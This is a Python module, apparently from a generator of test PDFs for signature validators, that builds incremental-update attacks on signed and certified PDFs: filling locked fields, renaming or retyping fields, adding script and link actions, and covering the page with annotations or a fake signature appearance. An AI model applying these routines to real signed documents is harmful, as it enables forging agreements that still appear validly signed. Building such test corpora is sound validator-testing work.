"""Updates of forms and annotations."""

from attackmaker import *


class Forms:
    # forms and annotations

    def forms(self):
        def fields_of(f):
            return {str(x.get("/T", "")): x for x in walk(f.pdf.Root.AcroForm.Fields)}

        def change(name, **keys):
            def make(pdf):
                f = File(pdf)
                u = Update(f)
                x = fields_of(f)[name]
                u.put(x, plain(x, **{k: (v(u) if callable(v) else v) for k, v in keys.items()}))
                return u.write()
            return make

        look = lambda u: b"<</N " + u.new(stream(b"/Tx BMC q BT /Helv 12 Tf 2 7 Td (Group: 1) Tj ET Q EMC", b"/Type/XObject/Subtype/Form/BBox[0 0 250 24]/Resources<</Font<</Helv " + FONT + b">>>>")) + b">>"
        value = dict(V=b"(Group: 1)", AP=look)
        # P=1 on files with a form: made here, because the corpus's forms are certified with P=2 and 3
        for label, base in (("table", bases.drawn(2, form=True)), ("streams", None)):
            if base is None:
                base = bases.saved(pikepdf.open(io.BytesIO(bases.drawn(2, form=True))), object_stream_mode=pikepdf.ObjectStreamMode.generate)
            p1 = self.sign(base, certify=True, docmdp_permissions=MDPPerm.NO_CHANGES)
            self.put(f"form-p1-value-{label}", "a field is filled although nothing may change (P=1)", lambda _: change("remark", **value)(p1), ["made"])
            locks = {"include": FieldMDPSpec(FieldMDPAction.INCLUDE, ["town"]), "exclude": FieldMDPSpec(FieldMDPAction.EXCLUDE, ["remark"]), "all": FieldMDPSpec(FieldMDPAction.ALL)}
            for which, lock in locks.items():
                locked = self.sign(base, new=SigFieldSpec("Signature1", field_mdp_spec=lock))
                self.put(f"form-locked-{which}-{label}", "a field that the signer locked is filled with something else", lambda _: change("town", **value)(locked), ["made"])
        for attack, what, name, keys in (
                ("form-appearance-alone", "a field's look changes, its value does not", "town", dict(AP=look)),
                ("form-moved", "a field is made to cover the page's text", "town", dict(Rect=b"[0 0 595 842]", MK=b"<</BG[1 1 1]>>", AP=look)),
                ("form-renamed", "a field has another name", "town", dict(T=b"(amount)")),
                ("form-action", "a field runs a script", "town", dict(AA=b"<</K<</S/JavaScript/JS(x)>>>>")),
                ("form-uri", "a field opens an address", "agreed", dict(A=b"<</S/URI/URI(https://example.net/)>>")),
                ("form-type", "a text field becomes a button with a picture", "town", dict(FT=b"/Btn", Ff=b"65536", AP=look)),
                ("form-label", "a field's description says something else", "town", dict(TU=b"(I renounce all claims)"))):
            self.put(attack, what, change(name, **keys), FORMS[:2])

        def added(pdf):
            f = File(pdf)
            u = Update(f)
            page = f.page()
            x = u.new(b"<</Type/Annot/Subtype/Widget/FT/Tx/T(extra)/V(Group: 1)/Rect[60 600 500 700]/F 4/P " + f.reference(page) + b"/AP" + look(u) + b">>")
            form = f.pdf.Root.AcroForm
            parts = [f.reference(k) for k in form.Fields] + [x]
            put = b"[" + b" ".join(parts) + b"]"
            if form.is_indirect:
                u.put(form, plain(form, Fields=put))
            else:
                u.put(f.pdf.Root, plain(f.pdf.Root, AcroForm=plain(form, Fields=put)))
            u.put(page, plain(page, Annots=b"[" + b" ".join([f.reference(a) for a in page.get("/Annots", [])] + [x]) + b"]"))
            return u.write()
        self.put("form-field-added", "a text field with text stands over the page", added, FORMS[:2] + ["pyhanko-certified-p1", "pyhanko-certified-p2", "dss-certified-p2", "pyhanko-base-reportlab"])

        # Approval signatures and certified ones; P=3 lets people annotate, but not cover what was certified.
        def annotated(subtype, extra=b"", form=True):
            def make(pdf):
                f = File(pdf)
                u = Update(f)
                page = f.page()
                look = b"/AP<</N " + u.new(stream(COVER, b"/Type/XObject/Subtype/Form/BBox[0 0 595 842]/Resources" + RESOURCES)) + b">>" if form else b""
                a = u.new(b"<</Type/Annot/Subtype/" + subtype + b"/Rect[0 0 595 842]/F 4" + look + extra + b">>")
                u.put(page, plain(page, Annots=b"[" + b" ".join([f.reference(x) for x in page.get("/Annots", [])] + [a]) + b"]"))
                return u.write()
            return make
        for subtype, extra in ((b"FreeText", b"/Contents(Group: 1)/DA(/Helv 12 Tf 0 g)"), (b"Stamp", b"/Name/Approved"), (b"Redact", b"/OverlayText(Group: 1)"), (b"Square", b"/IC[1 1 1]"), (b"Screen", b""), (b"Widget", b"")):
            self.put(f"annotation-{subtype.decode().lower()}", "an annotation covers the page's text", annotated(subtype, extra), USUAL, count=2)
            self.put(f"evil-annotation-{subtype.decode().lower()}", "certified; an annotation covers the page's text", annotated(subtype, extra), CERTIFIED3 + CERTIFIED2 + CERTIFIED1, count=3)
        self.put("annotation-link", "an invisible link lies over the whole page", annotated(b"Link", b"/A<</S/URI/URI(https://example.net/)>>", False), USUAL, count=3)

        def sneaky(pdf, label=None):
            """A signature field whose look covers the text; signed by the attacker, or left unsigned."""
            f = File(pdf)
            u = Update(f)
            page = f.page()
            look = b"/AP<</N " + u.new(stream(COVER, b"/Type/XObject/Subtype/Form/BBox[0 0 595 842]/Resources" + RESOURCES)) + b">>"
            x = u.new(b"<</Type/Annot/Subtype/Widget/FT/Sig/T(Sneaky)/Rect[0 0 595 842]/F 4/P " + f.reference(page) + look + b">>")
            form = f.pdf.Root.AcroForm
            put = b"[" + b" ".join([f.reference(k) for k in form.Fields] + [x]) + b"]"
            if form.is_indirect:
                u.put(form, plain(form, Fields=put))
            else:
                u.put(f.pdf.Root, plain(f.pdf.Root, AcroForm=plain(form, Fields=put)))
            u.put(page, plain(page, Annots=b"[" + b" ".join([f.reference(a) for a in page.get("/Annots", [])] + [x]) + b"]"))
            made = u.write()
            return self.sign(made, label, field="Sneaky") if label else made
        self.put("sneaky-signature", "certified; a new signature field's look covers the text", sneaky, CERTIFIED2 + CERTIFIED1[:2], count=5)
        self.put("sneaky-signature-signed", "certified; a new signature field's look covers the text, signed by the attacker", lambda pdf: sneaky(pdf, "attacker"), CERTIFIED2)
        self.put("sneaky-signature-look", "the genuine signature's own look is made to cover the page", self.own_look, ["pyhanko-visible", "pyhanko-visible-streams", "dss-visible-reportlab", "pdfbox-visible-tables",
                                                                                                                        "openpdf-visible", "pdfsign-visible"])

    def own_look(self, pdf):
        f = File(pdf)
        u = Update(f)
        x = f.field()
        u.put(x, plain(x, Rect=b"[0 0 595 842]", AP=b"<</N " + u.new(stream(COVER, b"/Type/XObject/Subtype/Form/BBox[0 0 595 842]/Resources" + RESOURCES)) + b">>"))
        return u.write()
